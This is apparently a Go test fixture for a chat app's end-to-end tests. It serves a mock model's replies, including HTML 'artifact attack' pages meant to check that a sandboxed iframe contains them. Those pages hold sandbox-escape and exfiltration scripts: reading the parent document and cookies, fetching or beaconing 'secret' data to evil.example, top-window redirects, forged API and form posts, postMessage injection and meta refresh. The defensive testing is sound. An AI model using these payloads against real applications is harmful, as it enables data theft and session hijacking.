package main

import (
	"fmt"
	"regexp"
	"strings"

	"github.com/agentdeck/agentdeck/backend/llm/llmtest"
)

// The artifact frame's scenarios (frontend/e2e/artifact.spec.ts and
// xss.spec.ts). A message holding "artifact v1", "artifact v2" or
// "artifact v3" gets an answer with an ```html block: a page titled
// "Counter" whose inline script writes "script ran vN" into it, each
// version a little different from the last. A message holding
// "artifact attack NAME" gets a page whose script tries one thing an
// artifact must not do (attacks below) and writes what happened into the
// page; the e2e tests check it did nothing outside the frame.

var artifactVersion = regexp.MustCompile(`artifact v([1-9])`)
var artifactAttackName = regexp.MustCompile(`artifact attack ([a-z-]+)`)

// isArtifactFrame reports whether a message asks for one of these scenarios.
func isArtifactFrame(last string) bool {
	return artifactVersion.MatchString(last) || artifactAttackName.MatchString(last)
}

// artifactFrame answers one of the scenarios.
func artifactFrame(last string) llmtest.Reply {
	if m := artifactAttackName.FindStringSubmatch(last); m != nil {
		return text(attackAnswer(m[1]), 6)
	}
	n := artifactVersion.FindStringSubmatch(last)[1]
	return text(fmt.Sprintf("Here is version %s of the counter.\n\n```html\n%s\n```\n\nOpen it to see it run.", n, counterPage(n)), 6)
}

// counterPage is version n of the page: a heading, a list that grows with
// n, and the script that says it ran (and paints its line #12b886, which
// the window smoke test looks for on screen); in few lines, so three
// answers holding it stay short.
func counterPage(n string) string {
	var items strings.Builder
	for i := range int(n[0] - '0') {
		fmt.Fprintf(&items, "<li>item %d</li>", i+1)
	}
	return `<!doctype html><html lang="en"><head><title>Counter</title><style>h1 { color: #4f46e5; }</style></head>
<body><h1>Counter version ` + n + `</h1><ul>` + items.String() + `</ul>
<p id="out">script did not run</p><script>var o = document.getElementById('out'); o.textContent = 'script ran v` + n + `'; o.style.background = '#12b886';</script></body></html>`
}

// offSite is where an attack would send what it read: never reached in a
// test (the browser's routes abort every request off the app's origin).
const offSite = "http://evil.example"

// attacks are the scripts of "artifact attack NAME": each tries one thing
// and says what happened by calling say(...); an error is caught and said.
var attacks = map[string]string{
	"read-parent": `var s = [];
try { s.push('app title: ' + parent.document.title); } catch (e) { s.push('parent.document: ' + e.name); }
try { s.push('top storage: ' + top.localStorage.length); } catch (e) { s.push('top.localStorage: ' + e.name); }
try { localStorage.setItem('k', 'v'); s.push('own storage: works'); } catch (e) { s.push('localStorage: ' + e.name); }
try { s.push('cookie: [' + document.cookie + ']'); } catch (e) { s.push('document.cookie: ' + e.name); }
say(s.join('; '));`,
	"top-location":     `try { top.location = '` + offSite + `/top'; say('top-location: set'); } catch (e) { say('top-location: ' + e.name); }`,
	"top-location-app": `try { top.location = '/#/hijacked'; say('top-location-app: set'); } catch (e) { say('top-location-app: ' + e.name); }`,
	"fetch-offsite":    `fetch('` + offSite + `/steal?d=secret').then(function (r) { say('fetch-offsite: answered ' + r.status); }, function (e) { say('fetch-offsite: ' + e.name); });`,
	"fetch-api": `fetch('/api/call/CreateSession', { method: 'POST', credentials: 'include', body: '[{"title":"hijacked by an artifact"}]' })
  .then(function (r) { say('fetch-api: answered ' + r.status); }, function (e) { say('fetch-api: ' + e.name); });`,
	"image": `var i = new Image();
i.onload = function () { say('image: loaded'); };
i.onerror = function () { say('image: failed'); };
i.src = '` + offSite + `/pixel.gif?d=secret';`,
	"window-open": `try { var w = window.open('` + offSite + `/popup'); say('window-open: ' + (w ? 'opened' : 'null')); } catch (e) { say('window-open: ' + e.name); }`,
	"form": `var f = document.createElement('form');
f.method = 'post'; f.action = '` + offSite + `/form';
var i = document.createElement('input'); i.name = 'd'; i.value = 'secret'; f.append(i);
document.body.append(f);
try { f.submit(); say('form: submitted'); } catch (e) { say('form: ' + e.name); }`,
	"form-app": `var f = document.createElement('form');
f.method = 'post'; f.action = '/api/call/CreateSession'; f.enctype = 'text/plain';
var i = document.createElement('input'); i.name = '[{"title":"hijacked by a form","x":"'; i.value = '"}]'; f.append(i);
document.body.append(f);
try { f.submit(); say('form-app: submitted'); } catch (e) { say('form-app: ' + e.name); }`,
	"postmessage": `var sent = 0;
[parent, top].forEach(function (w) {
  ['open settings', { kind: 'turn', data: { type: 'token', text: 'injected' } }, { type: 'agentdeck:bus', data: { kind: 'resync' } }].forEach(function (m) {
    try { w.postMessage(m, '*'); sent++; } catch (e) {}
  });
});
say('postmessage: sent ' + sent);`,
	"meta-refresh":     "",
	"meta-refresh-app": "",
}

// attackAnswer is the answer to "artifact attack NAME": one ```html page.
func attackAnswer(name string) string {
	script, ok := attacks[name]
	if !ok {
		return "There is no artifact attack named " + name + "."
	}
	head := ""
	switch name {
	case "meta-refresh":
		head = `<meta http-equiv="refresh" content="0; url=` + offSite + `/refresh">`
	case "meta-refresh-app":
		head = `<meta http-equiv="refresh" content="0; url=/">`
	}
	page := `<!doctype html>
<html>
  <head>
    <title>Attack ` + name + `</title>` + head + `
  </head>
  <body>
    <p id="out">` + name + `: waiting</p>
    <script>
function say(s) { document.getElementById('out').textContent = s; }
try {
` + script + `
} catch (e) { say('` + name + `: ' + e.name); }
    </script>
  </body>
</html>`
	return "An artifact that tries " + name + ".\n\n```html\n" + page + "\n```\n"
}
